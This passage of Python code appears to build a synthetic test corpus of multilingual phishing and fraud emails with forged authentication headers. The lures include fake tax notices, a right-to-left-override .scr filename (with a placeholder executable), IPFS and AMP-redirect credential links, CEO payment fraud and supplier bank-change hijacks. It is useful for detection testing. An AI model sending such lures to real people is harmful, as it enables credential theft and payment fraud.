        CRLF, CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("hausverwaltung-roth.de", "default", "from:to:subject:date:message-id"),
                frm=frm, to=[S["krueger"]], subject="WG: Zahlungsavis zu Ihrer Überweisung vom 03.12.2026",
                subj_cs="iso-8859-15", subj_enc="Q", root=root, mid=msgid_generic(key, "hausverwaltung-roth.de", "uuid"),
                extra=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "de-DE")])


@A("18", "de", "gewerbe-register-form-scam", "windows-1252",
   "Business-directory 'data update' form scam (offer disguised as an official register update) with a PDF form whose small print commits the signer to a three-year paid listing.")
def a18(key):
    sent = t(30, "10:02:55", 60)
    rcpt = S["fischer"][1]
    frm = ("Gewerbeauskunft-Zentrale", "service@gewerbedaten-register.de")
    body = """Sehr geehrte Damen und Herren,

im Rahmen der jährlichen Aktualisierung des Verzeichnisses für Gewerbetreibende bitten wir Sie, die bei uns hinterlegten Firmendaten zu überprüfen.

Bitte kontrollieren Sie die Angaben im beiliegenden Erfassungsbogen, ergänzen Sie gegebenenfalls fehlende Daten und senden Sie das Formular unterschrieben bis spätestens 11.12.2026 zurück:

per E-Mail: rueckantwort@gewerbedaten-register.de
per Fax: 0800 100 47 28

Nur vollständig ausgefüllte und unterzeichnete Formulare können berücksichtigt werden.

Mit freundlichen Grüßen

Ihr Team der Gewerbeauskunft-Zentrale
Datenerfassung / Abteilung Aktualisierung
"""
    pdf = PDF("Erfassungsbogen 2027", "GAZ", "Microsoft: Print To PDF", sent, creator="Microsoft Word")
    pdf.line("GEWERBEAUSKUNFT-ZENTRALE", 16, True)
    pdf.line("Verzeichnis für Gewerbetreibende - Datenerfassung 2027", 10)
    pdf.rule()
    pdf.y -= 10
    pdf.line("Erfassungsbogen / Rückantwort bis 11.12.2026", 13, True)
    pdf.line("Aktenzeichen: GAZ-2027-%s" % str(int(hexid(6, "az", key), 16) % 900000 + 100000), 9)
    pdf.y -= 8
    for lab, val in (("Firma", "Example Group"), ("Straße", "Hafenstraße 4"), ("PLZ / Ort", "90429 Nürnberg"),
                     ("Telefon", "0911 4080-0"), ("Telefax", ""), ("E-Mail", "info@example.com"),
                     ("Internet", "www.example.com"), ("Branche", "Logistik / Großhandel"), ("Inhaber / GF", "")):
        pdf.text(56, pdf.y, lab + ":", 10, True)
        pdf.text(170, pdf.y, val if val else "_" * 40, 10)
        pdf.y -= 20
    pdf.y -= 10
    pdf.lines("Korrekturen bitte in Druckbuchstaben eintragen.\n\nOrt, Datum: ______________________      Unterschrift / Firmenstempel: ______________________", 10)
    pdf.y -= 30
    fine = ("Mit der Unterzeichnung und Rücksendung dieses Formulars wird die Gewerbeauskunft-Zentrale beauftragt, die o.g. Daten im\n"
            "Online-Verzeichnis unter www.gewerbeauskunft-zentrale.info zu veröffentlichen. Der Eintrag ist ein Angebot zum\n"
            "Abschluss eines Vertrages. Die Vertragslaufzeit beträgt 3 Jahre ab Unterzeichnung. Der Jahrespreis beträgt 1.098,00 EUR\n"
            "zzgl. gesetzlicher MwSt. und ist jährlich im Voraus fällig. Der Vertrag verlängert sich um jeweils ein weiteres Jahr,\n"
            "wenn er nicht 3 Monate vor Ablauf schriftlich gekündigt wird. Es gelten die AGB der Gewerbeauskunft-Zentrale.\n"
            "Die Gewerbeauskunft-Zentrale ist keine Behörde und steht in keiner Verbindung zu amtlichen Registern.")
    pdf.lines(fine, 6)
    root = multi("mixed", [text(body, "plain", "windows-1252", "base64"),
                           att(pdf.render(), "application/pdf", "Erfassungsbogen_2027_Example_Group.pdf")], bnd("ms", key))
    hop = ("mail.gewerbedaten-register.de", "mail.gewerbedaten-register.de", "37.120.178.64", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "gewerbedaten-register.de", "dkim"), dmarc=("pass", "gewerbedaten-register.de", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("gewerbedaten-register.de", "dkim", "from:to:subject:date:message-id"),
                frm=frm, to=[S["fischer"]], subject="Aktualisierung Ihrer Firmendaten - Rückantwort erbeten bis 11.12.2026",
                subj_cs="windows-1252", subj_enc="Q", root=root, mid=msgid_generic(key, "gewerbedaten-register.de"),
                extra=[("X-Mailer", "Microsoft Outlook 16.0")])

@A("19", "ru", "fns-demand-zip-rtlo", "windows-1251",
   "Fake Russian tax-office (ФНС) demand for explanations from a look-alike domain with a ZIP holding an executable placeholder whose name uses a right-to-left override to look like a PDF.")
def a19(key):
    sent = t(1, "10:41:09", 180)
    rcpt = S["kuznetsova"][1]
    frm = ("Межрайонная ИФНС России № 46 по г. Москве", "uved-46@nalog-gov-uvedomlenie.ru")
    body = """Уважаемый налогоплательщик!

Межрайонная инспекция Федеральной налоговой службы № 46 по г. Москве в соответствии со статьями 31, 88 и 93 Налогового кодекса Российской Федерации направляет Вам требование о представлении пояснений (документов) № 12-08/44713 от 01.12.2026 в рамках камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 года.

Пояснения и документы необходимо представить в течение 5 (пяти) рабочих дней со дня получения настоящего требования.

Обращаем внимание, что непредставление пояснений в установленный срок влечёт ответственность по ст. 129.1 НК РФ, а также может повлечь приостановление операций по счетам налогоплательщика в банке (п. 3 ст. 76 НК РФ).

Текст требования и перечень запрашиваемых документов - во вложении.

С уважением,
Отдел камеральных проверок № 3
Межрайонная ИФНС России № 46 по г. Москве
125373, г. Москва, Походный проезд, домовладение 3, стр. 2
Тел.: 8 (495) 400-46-46

Настоящее сообщение сформировано автоматически, отвечать на него не нужно.
"""
    inner = "Требование_№12-08-44713_от_01.12.2026_\u202efdp.scr"
    exe = b"MZ\x90\x00" + placeholder("Windows executable .scr", "Требование_№12-08-44713")
    z = mkzip([(inner, exe, (2026, 12, 1, 9, 12, 30))])
    root = multi("mixed", [text(body, "plain", "windows-1251", "base64"),
                           att(z, "application/zip", "Требование_12-08-44713.zip", style="2047", name_cs="windows-1251")],
                 bnd("ms", key), preamble="This is a multi-part message in MIME format.")
    hop = ("nalog-gov-uvedomlenie.ru", "vds-1742281.hosted-by-itldc.com", "91.215.85.142", "1.2")
    rp = frm[1]
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("none", "", ""), dmarc=("none", "nalog-gov-uvedomlenie.ru", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=frm, to=[S["kuznetsova"]], subject="Требование о представлении пояснений № 12-08/44713 от 01.12.2026",
                subj_cs="windows-1251", subj_enc="B", root=root, mid=msgid_generic(key, "nalog-gov-uvedomlenie.ru"),
                extra=[("X-Mailer", "The Bat! (v11.4.2) Professional"), ("X-Priority", "1 (Highest)")])


@A("20", "ru", "mailbox-quota-ipfs", "koi8-r",
   "Mailbox-full warning spoofing the company's own domain in From (envelope from a compromised Russian site, DMARC fail) with a link to an IPFS-gateway credential page.")
def a20(key):
    sent = t(2, "07:23:51", 180)
    rcpt = S["sokolov"][1]
    cid = "bafybei" + alnum(52, "ipfs", key, alphabet="abcdefghijklmnopqrstuvwxyz234567")
    url = "https://ipfs.io/ipfs/%s/webmail.html#%s" % (cid, rcpt)
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=koi8-r"></head>
<body style="font-family:Tahoma,Arial,sans-serif;font-size:13px">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #c8c8c8">
<tr><td style="background:#c62828;color:#fff;padding:12px 16px;font-size:15px"><b>Внимание: почтовый ящик заполнен на 98%%</b></td></tr>
<tr><td style="padding:16px">
<p>Уважаемый пользователь <b>%(rcpt)s</b>,</p>
<p>Ваш почтовый ящик почти заполнен: <b>49,1 ГБ из 50 ГБ</b>.</p>
<div style="background:#eee;width:100%%;height:14px"><div style="background:#c62828;width:98%%;height:14px"></div></div>
<p>После достижения лимита входящие письма будут <b>возвращаться отправителям</b>, а отправка новых сообщений будет невозможна.</p>
<p>Чтобы бесплатно увеличить квоту и сохранить входящую почту, подтвердите учетную запись до <b>03.12.2026</b>:</p>
<p><a href="%(url)s" style="background:#1565c0;color:#fff;padding:9px 18px;text-decoration:none">Увеличить квоту</a></p>
<p style="color:#888;font-size:11px">Это автоматическое уведомление почтового сервера examplegroup.eu. Не отвечайте на это письмо.</p>
</td></tr></table></body></html>
""" % dict(rcpt=rcpt, url=url)
    root = html(body, "koi8-r", "quoted-printable")
    hop = ("tnsk-stroy.ru", "srv48-h-st.jino.ru", "217.107.34.190", "1.2")
    rp = "noreply@tnsk-stroy.ru"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("none", "", ""), dmarc=("fail", "examplegroup.eu", "quarantine"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=("Почтовый сервер examplegroup.eu", "postmaster@examplegroup.eu"), to=[S["sokolov"]],
                subject="Ваш почтовый ящик заполнен на 98% - требуется действие", subj_cs="koi8-r", subj_enc="B",
                root=root, mid=msgid_generic(key, "tnsk-stroy.ru"), extra=[("X-PHP-Originating-Script", "1004:mailer.php")])


@A("21", "ru", "bulk-client-databases", "iso-8859-5",
   "Classic Russian bulk spam advertising 'client databases' and mass mailing services, sent from a hijacked housing-services server, with Telegram/WhatsApp contacts.")
def a21(key):
    sent = t(3, "12:07:14", 180)
    rcpt = S["smirnov"][1]
    frm = ("Ирина Ковалева", "irina.kovaleva@gkh-servis-nn.ru")
    body = """Здравствуйте!

Соберём для Вас БАЗУ ПОТЕНЦИАЛЬНЫХ КЛИЕНТОВ по любому региону России, Беларуси и Казахстана.

- Организации любой отрасли: транспорт, логистика, склады, оптовая торговля, производство
- Названия компаний, ИНН, ФИО руководителя, телефоны, e-mail, сайт, адрес
- Актуальность базы - декабрь 2026 года
- Выгрузка в Excel за 1 рабочий день

Также выполним рассылку по Вашей базе или по нашим базам (от 10 000 адресов), прозвон, настройку рекламы.

Цены от 3 900 руб. за регион!

Звоните / пишите:
Тел., WhatsApp, Telegram: +7 (915) 208-41-77
Telegram: @baza_klientov_2026

Образцы баз высылаем бесплатно по запросу.

Если Вы не хотите получать наши предложения, ответьте на это письмо со словом ОТПИСАТЬСЯ.
"""
    root = text(body, "plain", "iso-8859-5", "8bit")
    hop = ("mail.gkh-servis-nn.ru", None, "176.113.82.19", "none")
    ar = auth_res(spf=("neutral", frm[1], hop[2]), dkim=("none", "", ""), dmarc=("none", "gkh-servis-nn.ru", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=frm, to=[S["smirnov"]], subject="Базы данных клиентов для Вашего бизнеса - декабрь 2026",
                subj_cs="iso-8859-5", subj_enc="B", root=root, mid=msgid_generic(key, "gkh-servis-nn.ru", "alnum"),
                extra=[("X-Mailer", "ePochta Mailer v.8.1")])


@A("22", "ru", "fake-boss-fsb-telegram", "utf-8",
   "Fake-boss scheme: 'Алексей Смирнов' writing from a mail.ru address tells the accountant a secret FSB/Central Bank 'curator' will call and moves the conversation to Telegram.")
def a22(key):
    sent = t(3, "09:48:33", 180)
    rcpt = S["kuznetsova"][1]
    frm = ("Алексей Смирнов", "a.smirnov.eg@mail.ru")
    body = """Ольга, добрый день!

Прошу отнестись к этому сообщению серьёзно. В отношении нашего представительства сейчас проводится проверка, к которой подключены сотрудники ФСБ и Центрального банка. Подробности по почте сообщить не могу.

Сегодня с Вами свяжется куратор проверки - Морозов Виктор Андреевич. Прошу оказать ему полное содействие и выполнять его указания. Информация строго конфиденциальная: никому в офисе, в том числе Дмитрию, о разговоре не сообщайте, это условие проверки.

Я сейчас на совещании и звонки принимать не могу. Пишите мне только в Telegram, это мой новый номер, старый временно не работает:
https://t.me/a_smirnov_eg
+7 (977) 418-20-63

Алексей Смирнов
Отправлено с iPhone
"""
    root = text(body, "plain", "utf-8", "base64")
    hop = ("f741.i.mail.ru", "f741.i.mail.ru", "95.163.41.87", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "mail.ru", "mail4"), dmarc=("pass", "mail.ru", "reject"))
    chain = ["by f741.i.mail.ru with local (envelope-from <a.smirnov.eg@mail.ru>)%s\tid 1tRvz2-00000000Kq3-2P8m%s\tfor o.kuznetsova@examplegroup.eu; %s" % (CRLF, CRLF, sent.rfc()),
             "by e.mail.ru with HTTP;%s\t%s" % (CRLF, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("mail.ru", "mail4", "Content-Type:Message-ID:Reply-To:Date:MIME-Version:Subject:To:From"),
                frm=frm, to=[S["kuznetsova"]], subject="Срочно и конфиденциально", root=root,
                mid="<%s@f741.i.mail.ru>" % str(int(hexid(12, "m", key), 16))[:16],
                extra=[("X-Mailer", "Mail.Ru Mailer 1.0"), ("X-Mailru-Src", "iphone"), ("X-7564579A", "B8F34718100C35BD"),
                       ("X-77F55803", "4F1203BC0FB41BD9" + hexid(48, "x77", key).upper()),
                       ("X-Mailru-Sender", hexid(48, "snd", key).upper())])


@A("23", "es", "aeat-notification-amp", "iso-8859-1",
   "Fake Agencia Tributaria e-notification from a new look-alike domain; the link goes through a Google AMP URL to a Firebase web.app page to evade URL reputation.")
def a23(key):
    sent = t(30, "12:33:27", 60)
    rcpt = S["martinez"][1]
    frm = ("Agencia Tributaria", "notificaciones@sede-agenciatributaria.com")
    exp = "2026GRC48173P"
    url = "https://www.google.com/amp/s/notificaciones-aeat-sede.web.app/expediente/%s?ref=%s" % (exp, hexid(12, "r", key))
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333">
<table width="640" cellpadding="0" cellspacing="0" style="border-top:4px solid #a50e0e">
<tr><td style="padding:14px 0"><b style="font-size:18px;color:#a50e0e">Agencia Tributaria</b><br><span style="font-size:12px;color:#666">Sede Electrónica</span></td></tr>
<tr><td style="padding:6px 0 16px 0">
<p>Estimado/a contribuyente:</p>
<p>Le comunicamos que tiene a su disposición una <b>notificación electrónica</b> en la Dirección Electrónica Habilitada única (DEHú) relativa al siguiente procedimiento:</p>
<table cellpadding="5" style="font-size:13px;background:#f6f6f6;width:100%%">
<tr><td width="170"><b>Procedimiento:</b></td><td>Requerimiento de información - Comprobación limitada (IVA 3T 2026)</td></tr>
<tr><td><b>Nº de expediente:</b></td><td>%s</td></tr>
<tr><td><b>Titular:</b></td><td>EXAMPLE GROUP (SUCURSAL EN ESPAÑA)</td></tr>
<tr><td><b>Fecha de puesta a disposición:</b></td><td>30/11/2026</td></tr></table>
<p>Dispone de un plazo de <b>10 días naturales</b> para acceder a su contenido. Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá rechazada y se dará por efectuado el trámite, siguiéndose el procedimiento (art. 43 de la Ley 39/2015).</p>
<p style="text-align:center;margin:22px 0"><a href="%s" style="background:#a50e0e;color:#fff;padding:10px 22px;text-decoration:none;font-weight:bold">Acceder a la notificación</a></p>
<p style="font-size:11px;color:#777">Este mensaje se ha enviado de forma automática. Por favor, no responda a este correo electrónico.<br>Agencia Estatal de Administración Tributaria - C/ Infanta Mercedes, 37 - 28020 Madrid</p>
</td></tr></table></body></html>
""" % (exp, url)
    root = html(body, "iso-8859-1", "quoted-printable")
    hop = ("mail.sede-agenciatributaria.com", "ns3219874.ip-51-195-41.eu", "51.195.41.203", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "sede-agenciatributaria.com", "mail"), dmarc=("pass", "sede-agenciatributaria.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("sede-agenciatributaria.com", "mail", "from:to:subject:date:message-id"),
                frm=frm, to=[S["martinez"]], subject="Notificación electrónica pendiente - Expediente %s" % exp,
                subj_cs="iso-8859-1", subj_enc="Q", root=root, mid=msgid_generic(key, "sede-agenciatributaria.com"))


@A("24", "es", "director-payment-fraud", "windows-1252",
   "Country-director impersonation from the look-alike examplegroup-es.com with a Proton Mail Reply-To, asking the finance clerk for an urgent confidential transfer to a valid Spanish mule IBAN.")
def a24(key):
    sent = t(2, "10:12:06", 60)
    rcpt = S["fernandez"][1]
    frm = ("Carlos Martínez García", "c.martinez@examplegroup-es.com")
    mule = iban_es("0182", "5941", "0201618372")
    body = """Lucía, buenos días:

Necesito que gestiones hoy mismo una transferencia a un proveedor nuevo. Es el anticipo para cerrar el acuerdo con el operador logístico de Zaragoza del que hablamos en el comité; Alemania ya lo ha aprobado, pero todavía no se ha comunicado internamente, así que te pido total discreción hasta que lo anunciemos.

Datos para la transferencia:

Beneficiario: Servicios Logísticos Ebro Norte S.L.
IBAN: %s
Importe: 38.750,00 €
Concepto: Anticipo contrato servicios 2027 - EXG

Es importante que salga hoy con fecha valor de hoy. Cuando esté hecha, mándame el justificante a esta misma dirección.

Estoy toda la mañana reunido con el banco y no puedo atender llamadas.

Gracias,
Carlos

Enviado desde mi iPhone
""" % iban_fmt(mule)
    root = text(body, "plain", "windows-1252", "8bit")
    hop = ("mail.examplegroup-es.com", "vps-8c41f2a7.vps.ovh.net", "57.128.197.33", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "examplegroup-es.com", "default"), dmarc=("pass", "examplegroup-es.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("examplegroup-es.com", "default", "from:reply-to:to:subject:date:message-id"),
                frm=frm, reply_to=("Carlos Martínez", "dir.cmartinez@proton.me"), to=[S["fernandez"]],
                subject="Transferencia urgente - confidencial", subj_cs="windows-1252", root=root,
                mid="<%s@examplegroup-es.com>" % (hexid(8, "m", key).upper() + "-" + hexid(4, "m2", key).upper() + "-" + hexid(4, "m3", key).upper() + "-" + hexid(4, "m4", key).upper() + "-" + hexid(12, "m5", key).upper()),
                extra=[("X-Mailer", "iPhone Mail (22B91)")])


@A("25", "es", "compromised-sme-notion-share", "iso-8859-15",
   "Compromised Spanish construction-company Microsoft 365 mailbox (authentication passes) sharing a 'budget proposal' that lives on a notion.site page which links on to a credential harvester.")
def a25(key):
    sent = t(1, "16:55:48", 60)
    rcpt = S["lopez"][1]
    frm = ("Marta Soler Ferrer", "m.soler@construccionesalbufera.es")
    link = "https://albufera-docs.notion.site/Propuesta-Presupuesto-2027-EXG-%s" % hexid(32, "n", key)
    plain = """Hola Javier:

Te comparto la propuesta de presupuesto para la adecuación de la nave de Riba-roja que comentamos la semana pasada, con las dos alternativas de pavimento y la partida de estanterías.

El documento está disponible en nuestro espacio seguro de documentos:

Propuesta_Presupuesto_2027_EXG.pdf (2,4 MB)
%s

Si te pide verificar tu cuenta, es por la política de seguridad de nuestro proveedor. Cualquier duda me dices y lo vemos por teléfono.

Un saludo,

Marta Soler Ferrer
Departamento Comercial
Construcciones Albufera, S.L.
Av. del Port, 118 - 46023 València
Tel. 963 41 22 80 - www.construccionesalbufera.es

Este mensaje y sus archivos adjuntos van dirigidos exclusivamente a su destinatario, pudiendo contener información confidencial sometida a secreto profesional.
""" % link
    htm = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-15\"></head><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">" +
           _x(plain).replace(link, '<a href="%s">Ver documento</a>' % link).replace("\n", "<br>\n") + "</div></body></html>")
    p = p_eop(key, sent, "eur")
    root = multi("alternative", [text(plain, "plain", "iso-8859-15", "base64"), html(htm, "iso-8859-15", "base64")], bnd("outlook", key))
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "construccionesalbufera.es", "selector1"), dmarc=("pass", "construccionesalbufera.es", "none"))
    subj = "Propuesta presupuesto 2027 - nave Riba-roja"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("construccionesalbufera.es", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["lopez"]], subject=subj, subj_cs="iso-8859-15", root=root, mid=p["mid"],
                extra=eop_extra(p, "es-ES", False, subj))


@A("26", "es", "domain-renewal-slamming", "utf-8",
   "Domain-slamming 'final notice' to renew examplegroup.eu with an unrelated 'registry' (actually an SEO listing), demanding EUR 349 to a valid Spanish IBAN.")
def a26(key):
    sent = t(4, "11:20:40", 60)
    rcpt = S["martinez"][1]
    frm = ("Registro de Dominios Europeo", "avisos@registro-dominios-eu.com")
    acct = iban_es("2038", "9640", "6000418273")
    body = """AVISO FINAL DE RENOVACIÓN

Dominio: examplegroup.eu
Titular: EXAMPLE GROUP
Fecha de vencimiento: 07/12/2026
Referencia: RDE-2026-%s

Estimado cliente:

Le informamos de que el registro de búsqueda del dominio examplegroup.eu vence el 07/12/2026. Si no recibimos el pago antes de la fecha de vencimiento, la información de su dominio dejará de estar disponible en nuestro registro y su empresa podría perder visibilidad en buscadores, tráfico y clientes.

Periodo de renovación: 1 año (07/12/2026 - 07/12/2027)
Importe: 349,00 € (IVA incluido)

Forma de pago: transferencia bancaria
Beneficiario: RDE Servicios Digitales S.L.
IBAN: %s
Concepto: RDE-2026-%s examplegroup.eu

Tras recibir el pago, la renovación se procesa automáticamente en 24 horas.

Atentamente,
Departamento de Renovaciones
Registro de Dominios Europeo

--
Aviso legal: Esto no es una factura. El Registro de Dominios Europeo es un servicio privado de optimización y registro en directorios de búsqueda y no es un registrador ni está vinculado a EURid ni a su proveedor de dominios actual. No está obligado a pagar esta cantidad salvo que acepte nuestra oferta. Para darse de baja responda con BAJA.
""" % (str(int(hexid(6, "r", key), 16) % 90000 + 10000), iban_fmt(acct), str(int(hexid(6, "r", key), 16) % 90000 + 10000))
    htm = "<html><body style=\"font-family:Verdana,sans-serif;font-size:12px\"><h2 style=\"color:#b00000\">AVISO FINAL DE RENOVACIÓN</h2>" + _x(body.split("\n", 2)[2]).replace("\n", "<br>") + "</body></html>"
    root = multi("alternative", [text(body, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")], bnd("php", key))
    hop = ("srv1.registro-dominios-eu.com", "srv1.registro-dominios-eu.com", "185.177.126.58", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "registro-dominios-eu.com", "default"), dmarc=("pass", "registro-dominios-eu.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("registro-dominios-eu.com", "default", "from:to:subject:date:message-id"),
                frm=frm, to=[S["martinez"]], subject="AVISO FINAL: Renovación del dominio examplegroup.eu \u2013 vence el 07/12/2026",
                root=root, mid=msgid_generic(key, "registro-dominios-eu.com"),
                extra=[("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"), ("X-Priority", "1")])

def aruba_hop(key, n=None):
    n = _n(key, 40) if n is None else n
    host = "smtpdh%02d.si.aruba.it" % (10 + n % 30)
    return (host, host, "62.149.155.%d" % (140 + n % 40), "1.2"), n


@A("27", "it", "lookalike-haulier-iban-change", "iso-8859-15",
   "Thread hijack continued from the look-alike domain ferreti-trasporti.it (one 't'): the haulier's 'administration' announces a bank change and asks to pay an overdue invoice to a new, valid Italian IBAN, with a PDF notice.")
def a27(key):
    sent = t(1, "11:27:35", 60)
    rcpt = S["ricci"][1]
    frm = ("Ferretti Trasporti - Amministrazione", "amministrazione@ferreti-trasporti.it")
    new_iban = iban_it("36772", "01600", "000000318265")
    orig_mid = "<%s@EXG-MBX02.corp.example.com>" % alnum(32, "o", key, alphabet="0123456789abcdef")
    body = """Gentile Dott.ssa Ricci,

grazie per il riscontro. Come anticipato, a seguito di un audit interno e del passaggio al nuovo istituto di credito, le coordinate bancarie indicate in fattura non sono più attive e il bonifico eventualmente disposto verrebbe respinto.

Vi chiediamo pertanto di effettuare il pagamento della fattura n. 2026/1187 (EUR 7.842,50, scadenza 30/11/2026) e di tutte le fatture successive sul nuovo conto:

Intestatario: Ferretti Trasporti S.r.l.
IBAN: %s

In allegato la comunicazione ufficiale firmata dal legale rappresentante. Vi saremmo grati se poteste inviarci la contabile del bonifico non appena disposto, in modo da chiudere la posizione entro la settimana.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Industria 31 - 37012 Bussolengo (VR)
Tel. +39 045 715 4820 - P.IVA 02874510234

-----Messaggio originale-----
Da: Francesca Ricci <f.ricci@examplegroup.eu>
Inviato: lunedì 30 novembre 2026 15:12
A: amministrazione@ferretti-trasporti.it
Oggetto: RE: Fattura n. 2026/1187 - scadenza 30/11/2026

Buongiorno,

la fattura 2026/1187 è stata registrata ed è in pagamento con la distinta di questa settimana. Vi confermo che il bonifico verrà disposto entro giovedì.

Cordiali saluti
Francesca Ricci
Amministrazione | Example Group - Sede di Verona
""" % iban_fmt(new_iban)
    pdf = PDF("Comunicazione variazione coordinate bancarie", "Amministrazione", "Microsoft® Word per Microsoft 365", sent, creator="Microsoft® Word per Microsoft 365")
    pdf.line("FERRETTI TRASPORTI S.r.l.", 17, True)
    pdf.line("Trasporti nazionali e internazionali - Logistica", 9)
    pdf.line("Via dell'Industria 31 - 37012 Bussolengo (VR) - P.IVA 02874510234", 8)
    pdf.rule()
    pdf.y -= 16
    pdf.text(380, pdf.y, "Bussolengo, 30/11/2026", 10)
    pdf.y -= 26
    pdf.lines("Spett.le\nExample Group - Sede di Verona\nAlla c.a. Ufficio Amministrazione")
    pdf.y -= 12
    pdf.line("Oggetto: comunicazione variazione coordinate bancarie", 11, True)
    pdf.y -= 4
    pdf.lines("Con la presente Vi comunichiamo che, con decorrenza immediata, le nostre coordinate bancarie per\ntutti i pagamenti sono variate come segue:\n")
    pdf.rect(56, pdf.y - 36, 483, 48, 0.93)
    pdf.lines("**Beneficiario: Ferretti Trasporti S.r.l.\n**IBAN: %s" % iban_fmt(new_iban), 10, 66)
    pdf.y -= 14
    pdf.lines("Vi preghiamo di aggiornare la Vostra anagrafica fornitori e di non utilizzare più le coordinate\nprecedentemente comunicate. Restiamo a disposizione per qualsiasi chiarimento.\n\nDistinti saluti\n\n\nIl Legale Rappresentante\nRoberto Ferretti")
    root = multi("mixed", [text(body, "plain", "iso-8859-15", "quoted-printable"),
                           att(pdf.render(), "application/pdf", "Comunicazione_variazione_coordinate_bancarie.pdf")],
                 bnd("ms", key), preamble="This is a multi-part message in MIME format.")
    hop, n = aruba_hop(key)
    chain = ["from DESKTOP-ADM03 ([31.13.189.54])%s\tby Aruba Outgoing Smtp  with ESMTPSA%s\tid Qx%s; %s" % (CRLF, CRLF, alnum(12, "ar", key), sent.rfc())]
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "ferreti-trasporti.it", "a1"), dmarc=("pass", "ferreti-trasporti.it", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("ferreti-trasporti.it", "a1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
                frm=frm, to=[S["ricci"]], cc=[S["bianchi"]], subject="RE: Fattura n. 2026/1187 - scadenza 30/11/2026 - nuove coordinate bancarie",
                subj_cs="iso-8859-15", root=root, mid="<000001db%s$%s$%s@ferreti-trasporti.it>" % (hexid(8, "a", key), hexid(8, "b", key), hexid(8, "c", key)),
                irt=orig_mid, refs=orig_mid,
                extra=[("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "AQH" + b64blob(30, "ti", key)[:37]), ("Content-Language", "it")])


@A("28", "it", "aruba-pec-renewal-phish", "windows-1252",
   "Aruba PEC mailbox 'expiry and suspension' phishing from a look-alike renewal domain, leading to a card-payment page on a cheap .site domain.")
def a28(key):
    sent = t(2, "08:03:19", 60)
    rcpt = S["romano"][1]
    frm = ("Aruba.it", "notifiche@aruba-rinnovi-pec.it")
    url = "https://aruba.it.rinnovo-pec.pagamento-sicuro.site/rinnovo?c=%s&u=%s" % (hexid(14, "c", key), base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip("="))
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ff6a00;padding:14px 24px;color:#fff;font-size:22px;font-weight:bold">aruba<span style="font-weight:normal">.it</span></td></tr>
<tr><td style="padding:24px;font-size:14px;color:#333;line-height:21px">
<p>Gentile Cliente,</p>
<p>ti informiamo che il servizio <b>Posta Elettronica Certificata (PEC)</b> associato al tuo account è in scadenza il <b>04/12/2026</b>.</p>
<p>Non avendo ricevuto il pagamento tramite rinnovo automatico, alla scadenza la casella verrà <b>sospesa</b>: non potrai inviare né ricevere messaggi PEC e i messaggi in arrivo verranno respinti con valore legale di mancata consegna.</p>
<table cellpadding="6" style="font-size:13px;background:#fafafa;border:1px solid #eee;width:100%%">
<tr><td>Servizio</td><td><b>PEC Standard 1 GB</b></td></tr><tr><td>Scadenza</td><td>04/12/2026</td></tr><tr><td>Importo rinnovo</td><td>5,00 EUR + IVA / anno</td></tr></table>
<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#ff6a00;color:#fff;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:3px">RINNOVA ORA</a></p>
<p>Il rinnovo è immediato e non comporta alcuna interruzione del servizio.</p>
<p>Cordiali saluti,<br>Lo Staff di Aruba.it</p>
</td></tr>
